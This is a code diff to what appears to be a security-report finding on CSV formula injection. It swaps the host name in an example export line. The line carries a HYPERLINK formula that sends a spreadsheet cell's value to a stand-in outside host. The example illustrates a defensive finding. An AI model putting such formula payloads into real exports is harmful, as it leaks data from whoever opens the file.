@@ -31,7 +31,7 @@ export const csvFormulas: ReportFinding = {
       'text',
       'A line from an export, with a reference the payer chose',
       `
-03-11,pay_test_31,20.00,"=HYPERLINK(""https://il-probe.example/?v=""&B2,""Invoice 4711"")"
+03-11,pay_test_31,20.00,"=HYPERLINK(""https://probe.example/?v=""&B2,""Invoice 4711"")"
 `,
     ),
   ],
